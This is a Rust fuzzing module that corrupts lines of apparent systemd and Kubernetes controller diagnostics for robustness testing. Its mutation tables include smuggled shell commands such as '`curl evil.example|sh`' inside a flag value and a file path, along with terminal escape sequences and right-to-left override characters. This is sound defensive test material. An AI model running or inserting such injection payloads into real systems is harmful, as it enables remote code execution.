//! Changes to one line of an answer.

use base64::Engine as _;
use base64::engine::general_purpose::STANDARD;

use super::words::{self, MARK};
use super::{Kind, Random};

/// Numbers and times at the limits of their ranges, beyond them, or malformed.
const NUMBERS: [&str; 18] = [
    "0",
    "-1",
    "1",
    "00",
    "65536",
    "4294967295",
    "4294967296",
    "9223372036854775807",
    "9223372036854775808",
    "18446744073709551615",
    "18446744073709551616",
    "1000000000000000000000000000000",
    "1e30",
    "NaN",
    "253402300800.000000000",
    "1764425317.1000000000",
    "1764425317.999999999999",
    "9223372036854775807.999999999",
];

/// Replacements of states: the beginning of a line, and the choices for its rest.
const STATES: [(&str, &[&str]); 17] = [
    ("unit ActiveState=", &["active", "failed", "inactive", "activating", "reloading", MARK]),
    ("unit SubState=", &["running", "auto-restart", "dead", "exited", MARK]),
    ("unit Enablement=", &["enabled", "masked", "", "disabled", "masked-runtime"]),
    ("unit MainPID=", &["0", "1", "4294967295", "2"]),
    ("unit Result=", &["signal", "exit-code", "oom-kill", "`curl", "\u{1b}[2JEVILMARK"]),
    ("unit InvocationID=", &["", "EVILMARK", "0000", "\u{202e}EVILMARK"]),
    ("unit NeedDaemonReload=", &["yes", "no"]),
    ("unit NRestarts=", &["0", "4294967295", "7"]),
    ("unit DropInPaths=", &["/etc/EVILMARK/x.conf /run/\u{1b}]0;x\u{7}EVILMARK.conf", ""]),
    ("processes ", &["unknown", "known", "known 1", "known 1 2 3 4294967295"]),
    ("process ", &["-"]),
    ("leftover ", &["0", "1"]),
    ("room ", &["0 none", "1 readOnly", "0 permissionDenied", "18446744073709551615 none"]),
    ("account ", &["none", "0 0", "4294967295 4294967295"]),
    ("strangers ", &["unknown", "known 0100007F:2811/1", "known 0100007F:2811/0 00000000:2811/9"]),
    ("exit ", &["0", "255", "137", "-1"]),
    ("settled ", &["EVILMARK 0 known", "EVILMARK 1 unknown", "x 1 known 08080808:01BB"]),
];

const PATHS: [&str; 6] = [
    "absent",
    "other",
    "folder 777 0 0",
    "unread 777 1 1 0 1.000000000",
    "link L0VWSUxNQVJLAGA=",
    "file 0000000000000000000000000000000000000000000000000000000000000000 666 0 0 9 1.000000000",
];

/// Host names, including those of the other masters, one of which may be the leader.
const HOSTS: [&str; 6] = [
    "k8s-master-02",
    "k8s-master-03",
    "",
    "k8s-master-02_EVILMARK",
    "\u{1b}[2JEVILMARK",
    "EVILMARK k8s-master-03",
];

/// Flags that contradict the real Lease, address, port or kubeconfig of the process.
const FLAGS: [&str; 6] = [
    "--leader-elect=false",
    "--leader-elect-resource-name=EVILMARK",
    "--leader-elect-resource-namespace=`curl evil.example|sh`EVILMARK",
    "--secure-port=22",
    "--bind-address=8.8.8.8",
    "--kubeconfig=/root/EVILMARK\u{1b}[2J",
];

/// Returns the changed line, without the line end, like `line`.
pub(super) fn changed(line: &[u8], kind: Kind, random: &mut Random) -> Vec<u8> {
    match kind {
        Kind::Coded | Kind::Plain | Kind::Number => fields(line, kind, random),
        Kind::Host => host(line, random),
        Kind::State => state(line, random),
        Kind::Failure => [failure(random), b"\n".to_vec(), line.to_vec()].concat(),
        _ => line.to_vec(),
    }
}

fn fields(line: &[u8], kind: Kind, random: &mut Random) -> Vec<u8> {
    let (name, value) = line.split_at(assigned(line));
    if kind == Kind::Number && name == b"MESSAGE=" {
        // A binary field of the journal export format with an impossible length.
        return b"MESSAGE\n\xff\xff\xff\xff\xff\xff\xff\x7f".to_vec();
    }
    let mut words: Vec<Vec<u8>> = value.split(|it| *it == b' ').map(<[u8]>::to_vec).collect();
    let first = usize::from(name.is_empty() && words.len() > 1);
    for place in first..words.len() {
        if random.once_in(2) {
            let is_coded = is_coded(&words, place);
            if let Some(word) = field(&words[place], is_coded, kind, random) {
                words[place] = word;
            }
        }
    }
    [name, &words.join(&b' ')].concat()
}

fn field(word: &[u8], is_coded: bool, kind: Kind, random: &mut Random) -> Option<Vec<u8>> {
    let is_number = !word.is_empty() && word.iter().all(|it| b"0123456789.:/ABCDEF".contains(it));
    match kind {
        Kind::Coded if is_coded => Some(coded(word, random)),
        Kind::Plain if !is_coded => Some(words::plain(random)),
        Kind::Number if is_number => Some(random.pick(&NUMBERS).as_bytes().to_vec()),
        _ => None,
    }
}

/// Returns the length of `NAME=` or `unit NAME=` at the beginning of a line, else 0.
fn assigned(line: &[u8]) -> usize {
    let name = line.strip_prefix(b"unit ").unwrap_or(line);
    let length = name.iter().take_while(|it| it.is_ascii_alphanumeric() || **it == b'_').count();
    if length > 0 && name.get(length) == Some(&b'=') {
        line.len() - name.len() + length + 1
    } else {
        0
    }
}

/// Reports whether a word is base64, possibly after a `=`.
fn is_coded(words: &[Vec<u8>], place: usize) -> bool {
    let at = |place: usize| words.get(place).map_or(&b""[..], Vec::as_slice);
    if at(place) == b"-" {
        return at(0) == b"content";
    }
    match (at(0), at(1)) {
        (b"content" | b"out" | b"err" | b"taken" | b"changed", _) => place == 1,
        (b"unitChanged", _) => place <= 2,
        (b"path", b"link") | (b"version" | b"unreadable" | b"process", _) => place == 2,
        (b"unitFiles", b"environment") => place == 3 || at(place).starts_with(b"="),
        (b"program" | b"failed" | b"unitFiles", _) => place >= 2,
        (b"folder" | b"untrusted", _) => place == 5,
        _ => false,
    }
}

/// Encodes hostile bytes that replace the content of a word or are inserted into it.
fn coded(word: &[u8], random: &mut Random) -> Vec<u8> {
    let (mark, word) = word.strip_prefix(b"=").map_or((&b""[..], word), |rest| (b"=", rest));
    let mut bytes = STANDARD.decode(word).unwrap_or_default();
    let hostile = words::any(random);
    match random.below(4) {
        0 => bytes = hostile,
        1 => bytes.splice(0..0, hostile).for_each(drop),
        2 => bytes.extend(hostile),
        _ => {
            // Before a separator of the content, so that its structure may stay valid.
            let ends = bytes.iter().enumerate().filter(|(_, it)| b"\n\0 ".contains(it));
            let ends: Vec<usize> = ends.map(|(place, _)| place).collect();
            let place = if ends.is_empty() { bytes.len() } else { ends[random.below(ends.len())] };
            bytes.splice(place..place, hostile).for_each(drop);
        }
    }
    [mark, STANDARD.encode(bytes).as_bytes()].concat()
}

fn host(line: &[u8], random: &mut Random) -> Vec<u8> {
    match line.split(|it| *it == b' ').next() {
        Some(b"host") => {
            let name = if random.once_in(5) {
                words::plain(random)
            } else {
                random.pick(&HOSTS).as_bytes().to_vec()
            };
            [b"host 1 ", &name[..]].concat()
        }
        Some(b"process") => process(line, random),
        _ => line.to_vec(),
    }
}

/// Adds a flag to a process.
fn process(line: &[u8], random: &mut Random) -> Vec<u8> {
    let mut words: Vec<Vec<u8>> = line.split(|it| *it == b' ').map(<[u8]>::to_vec).collect();
    if let Some(argv) = words.get_mut(2) {
        let mut bytes = STANDARD.decode(&argv[..]).unwrap_or_default();
        bytes.extend(random.pick(&FLAGS).bytes().chain([0]));
        *argv = STANDARD.encode(bytes).into_bytes();
    }
    words.join(&b' ')
}

fn state(line: &[u8], random: &mut Random) -> Vec<u8> {
    if line.starts_with(b"path ") {
        return format!("path {}", random.pick(&PATHS)).into_bytes();
    }
    if line.starts_with(b"process ") {
        match random.below(4) {
            0 => return process(line, random),
            // Reports a listening address that no process uses.
            1 | 2 => {
                let words: Vec<&[u8]> = line.split(|it| *it == b' ').take(4).collect();
                return [&words.join(&b' ')[..], b" 0100007F:0001"].concat();
            }
            _ => {}
        }
    }
    let known = STATES.iter().find(|(name, _)| line.starts_with(name.as_bytes()));
    known.map_or_else(
        || line.to_vec(),
        |(name, choices)| format!("{name}{}", random.pick(choices)).into_bytes(),
    )
}

fn failure(random: &mut Random) -> Vec<u8> {
    const KINDS: [&str; 8] =
        ["-", "corrupt", "unit", "noSystemd", "busy", "wrongKind", "permissionDenied", MARK];
    const CAUSES: [&str; 5] = [
        "No space left on device",
        "Permission denied",
        "File exists",
        "Read-only file system",
        "",
    ];
    let path = match random.below(4) {
        0 => words::any(random),
        1 => [b"/opt/", &words::plain(random)[..]].concat(),
        2 => b"/opt/kubernetes/EVILMARK `curl evil.example|sh` \n/x".to_vec(),
        _ => b"kube-controller-manager.service".to_vec(),
    };
    let mut reason = words::any(random);
    reason.extend(random.pick(&CAUSES).bytes());
    let (path, reason) = (STANDARD.encode(path), STANDARD.encode(reason));
    let line = match random.below(8) {
        0 => format!("untrusted 1 777 0 0 {path}"),
        1 => format!("changed {path} file {} 666 0 0", "0".repeat(64)),
        2 => format!("changed {path} link {reason}"),
        3 => format!("unitChanged {path} {reason} enabled"),
        4 => format!("folder 1 777 4294967295 0 {path}"),
        5 => format!("taken {reason}"),
        _ => format!("failed {} {path} {reason}", random.pick(&KINDS)),
    };
    line.into_bytes()
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn coded_fields_stay_coded_and_others_stay_one_word() {
        for seed in 0..500 {
            let mut random = Random::new(seed, "");
            let line = changed(b"content a2V5", Kind::Coded, &mut random);
            let word = line.strip_prefix(b"content ").unwrap();
            assert!(STANDARD.decode(word).is_ok());
            let line = changed(b"path file ab 644 0 0 7 1.000000000", Kind::Plain, &mut random);
            assert!(line.starts_with(b"path "), "{line:?}");
            assert_eq!(line.split(|it| *it == b' ').count(), 8, "{line:?}");
            assert!(!line.contains(&b'\n'));
            assert_eq!(changed(b"done", Kind::State, &mut random), b"done");
        }
    }

    #[test]
    fn names_of_values_are_kept() {
        let mut random = Random::new(1, "");
        for line in ["unit MainPID=7", "__REALTIME_TIMESTAMP=7"] {
            for kind in [Kind::Plain, Kind::Number] {
                let changed = changed(line.as_bytes(), kind, &mut random);
                let name = line.strip_suffix('7').unwrap().as_bytes();
                assert!(changed.starts_with(name), "{changed:?}");
            }
        }
    }
}
